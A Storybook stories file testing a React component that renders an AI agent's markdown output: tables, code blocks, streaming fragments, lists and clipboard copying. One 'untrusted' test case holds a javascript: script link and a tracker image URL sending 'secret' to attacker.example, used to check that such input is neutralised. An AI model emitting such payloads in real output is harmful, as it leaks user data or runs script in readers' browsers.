import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, userEvent, within } from 'storybook/test'
import { TextPart } from '../src/components/TextPart'
import type { TextPart as TextPartData } from '../src/core/model/types'
import { opencodeSession } from '../test/fixtures/opencode'
import { highlighted, type PartCase, PartStates } from './support/matrix'

const real = opencodeSession.messages[0]?.parts[0] as TextPartData
const text = (id: string, value: string, extra: Partial<TextPartData> = {}): TextPartData => ({
  ...real,
  id,
  text: value,
  ...extra,
})

const rich = `# Heading one
## Heading two

A paragraph with **bold**, *italic*, ~~struck~~ and \`inline code\`, plus an autolink: https://example.com/docs.

1. First step
2. Second step
   - nested bullet

A loose list, its items apart (one list, each item a paragraph):

- **Timestamps**: simple, but two writes in one millisecond are skipped.

- **A change log**: one row per write, read in version order.

| Package | Size | Change |
|---|---:|:---:|
| core | 12.4 KB | +3% |
| protocols | 30.1 KB | −1% |

- [x] parse the stream
- [ ] render the tail

> A quote from the model.`

const code = `\`\`\`ts
// the answer, typed
export const answer: number = 42
\`\`\`

\`\`\`python
def main() -> int:
    print("hello")  # greet
    return 0
\`\`\`

\`\`\`bash
npm ci && npm test
\`\`\``

const long = `A very long line: ${'streaming-markdown-renderers-must-wrap-or-scroll-'.repeat(6)}end.

\`\`\`json
{"a_very_long_key_that_goes_on": "${'x'.repeat(140)}"}
\`\`\``

const matrix: PartCase<TextPartData>[] = [
  { name: 'real user message (opencode)', part: real },
  { name: 'headings, lists, table, task list, quote', part: text('p1', rich) },
  { name: 'code in TypeScript, Python and Bash', part: text('p2', code) },
  { name: 'long lines', part: text('p3', long) },
  {
    name: 'streaming: unclosed fence and bold mid-token',
    part: text('p4', 'Here is the fix, **very** import\n\n```ts\nexport function fetchUser(id: string) {\n  return fe'),
    streaming: true,
  },
  { name: 'streaming: half-typed table', part: text('p5', '| File | Lines |\n|--'), streaming: true },
  {
    name: 'synthetic (added by the agent)',
    part: text('p6', 'Summary of the conversation so far.', { synthetic: true }),
  },
  {
    name: 'synthetic: an attached file read in for the model, folded',
    part: text(
      'p6b',
      [
        'Called the Read tool with the following input: {"filePath":"src/api.ts"}',
        '<file>',
        ...Array.from({ length: 40 }, (_, i) => `${String(i + 1).padStart(5, '0')}| export const value${i} = ${i}`),
        '</file>',
      ].join('\n'),
      { synthetic: true },
    ),
  },
  { name: 'ignored', part: text('p7', 'This message was not sent to the model.', { ignored: true }) },
  {
    name: 'untrusted: raw HTML, script link, remote image',
    part: text(
      'p8',
      'Raw <b>html</b> stays text. [A script link](javascript:alert(1)) ![tracker](https://attacker.example/p.png?d=secret)',
    ),
  },
]

const meta = {
  title: 'Parts/TextPart',
  component: TextPart,
} satisfies Meta<typeof TextPart>

export default meta

type Story = StoryObj<typeof meta>

/** Every state of text: GFM, highlighted code, long lines, mid-stream shapes, synthetic and ignored text, untrusted input. */
export const States: Story = {
  args: { part: real },
  render: () => <PartStates cases={matrix} component={TextPart} />,
  play: async ({ canvasElement }) => {
    await highlighted(canvasElement)
    const canvas = within(canvasElement)
    await expect(canvas.getAllByRole('table')).toHaveLength(2)
    const streaming = within(canvas.getByRole('region', { name: 'streaming: unclosed fence and bold mid-token' }))
    await expect(streaming.queryByText(/```|\*\*/)).toBeNull()
    await expect(canvas.queryByRole('link', { name: 'A script link' })).toBeNull()
  },
}

/** Copying a code block: the button says "Copied". */
export const CopyCode: Story = {
  args: { part: text('p9', '```sh\nnpm ci && npm test\n```') },
  play: async ({ canvasElement }) => {
    await highlighted(canvasElement)
    const canvas = within(canvasElement)
    const copied: string[] = []
    Object.defineProperty(navigator, 'clipboard', {
      value: { writeText: (text: string) => Promise.resolve(void copied.push(text)) },
      configurable: true,
    })
    await userEvent.click(canvas.getByRole('button', { name: 'Copy code' }))
    await expect(await canvas.findByText('Copied')).toBeVisible()
    await expect(copied).toEqual(['npm ci && npm test'])
    // "Copied" shows for two seconds: the screenshot is of the button back at rest, whenever it is taken.
    await expect(await canvas.findByRole('button', { name: 'Copy code' })).toHaveFocus()
  },
}

/** Dark theme and Chinese labels over rich text and code. */
export const DarkChinese: Story = {
  args: { part: text('p10', `${rich}\n\n${code}`) },
  globals: { theme: 'dark', locale: 'zh-CN' },
  play: async ({ canvasElement }) => {
    await highlighted(canvasElement)
  },
}

/**
 * Untrusted markup that would take the markdown parser seconds (here list markers by the hundred on
 * one line): that block is shown as written under a note, the blocks around it formatted.
 */
export const ShownAsWritten: Story = {
  args: {
    part: text(
      'p11',
      `The model answered with a **formatted** paragraph, then this:\n\n${'- '.repeat(120)}deep\n\nAnd went on, *formatted* again.`,
    ),
  },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement)
    await expect(canvas.getByText(/Shown as written/)).toBeVisible()
    await expect(canvas.queryAllByRole('listitem')).toHaveLength(0)
    await expect(canvas.getByText('formatted', { selector: 'strong' })).toBeVisible()
  },
}

const steps = `Do it in three steps:

1. **Add the column.** Every write records its version from now on:

   \`\`\`ts
   await db.schema.alterTable('notes').addColumn('version', 'bigint', (column) => column.notNull().defaultTo(0)).execute()
   \`\`\`

   Rows written before it read as version 0.

2. **Backfill the old rows**, once per account:

   \`\`\`bash
   npm run backfill -- --account "$ACCOUNT" --batch 500
   \`\`\`

3. **Switch the clients.** They ask for the changes since their cursor.

Then, on each machine:

- Pull and install
  \`\`\`bash
  git pull && npm ci
  \`\`\`
- Restart the worker
  \`\`\`bash
  systemctl restart sync-worker
  \`\`\``

/**
 * Steps that hold code, as agents write them: a numbered list whose items hold a paragraph, an
 * indented fence and another paragraph, and a list with code right under each item's line. Finished,
 * and cut while the second step's code is being written: the numbering goes on, the code is a block
 * inside its step.
 */
export const StepsWithCode: Story = {
  args: { part: real },
  render: () => (
    <PartStates
      component={TextPart}
      cases={[
        { name: 'finished', part: text('p12', steps) },
        {
          name: 'streaming: the second step’s code being written',
          part: text('p13', steps.slice(0, steps.indexOf('--batch'))),
          streaming: true,
        },
      ]}
    />
  ),
  play: async ({ canvasElement }) => {
    await highlighted(canvasElement)
    const canvas = within(canvasElement)
    const finished = within(canvas.getByRole('region', { name: 'finished' }))
    // One numbered list of three steps (not three lists each starting at 1), each code block inside its item.
    const [numbered, bullets] = finished.getAllByRole('list')
    await expect(within(numbered as HTMLElement).getAllByRole('listitem')).toHaveLength(3)
    await expect((numbered as HTMLElement).querySelectorAll(':scope > li .cp-code')).toHaveLength(2)
    await expect((bullets as HTMLElement).querySelectorAll(':scope > li .cp-code')).toHaveLength(2)
    const streaming = within(canvas.getByRole('region', { name: 'streaming: the second step’s code being written' }))
    const [live] = streaming.getAllByRole('list')
    await expect(within(live as HTMLElement).getAllByRole('listitem')).toHaveLength(2)
    await expect((live as HTMLElement).querySelectorAll(':scope > li .cp-code')).toHaveLength(2)
    await expect(streaming.queryByText(/```/)).toBeNull()
  },
}

/** Twelve steps, as a plan is written: one list whose numbers reach two digits, and a step 10 on its own after a paragraph. */
const plan = [
  ...Array.from(
    { length: 12 },
    (_, i) =>
      `${i + 1}. ${['Read the cursor.', 'Fetch the page of changes since it.', 'Apply each change in order, in one transaction, and store the new cursor with it.'][i % 3]}`,
  ),
  '',
  'Then, once every client has synced:',
  '',
  '10. Compact the log up to the oldest cursor still in use.',
].join('\n')

/**
 * Numbers of two digits: their markers ("10.", "11.") have room left of the items, as one digit's
 * do, in a finished text (painted in a box of its own, which would clip them) and one being written.
 */
export const NumberedPastNine: Story = {
  args: { part: real },
  render: () => (
    <PartStates
      component={TextPart}
      cases={[
        { name: 'finished', part: text('p14', plan) },
        { name: 'streaming', part: text('p15', plan.slice(0, plan.indexOf('Then'))), streaming: true },
      ]}
    />
  ),
  play: async ({ canvasElement }) => {
    const finished = within(within(canvasElement).getByRole('region', { name: 'finished' }))
    const [twelve, ten] = finished.getAllByRole('list') as HTMLOListElement[]
    await expect(within(twelve as HTMLElement).getAllByRole('listitem')).toHaveLength(12)
    await expect(ten?.start).toBe(10)
    for (const list of [twelve, ten] as HTMLOListElement[])
      await expect(parseFloat(getComputedStyle(list).paddingLeft)).toBeGreaterThan(
        parseFloat(getComputedStyle(list).fontSize) * 2,
      )
  },
}
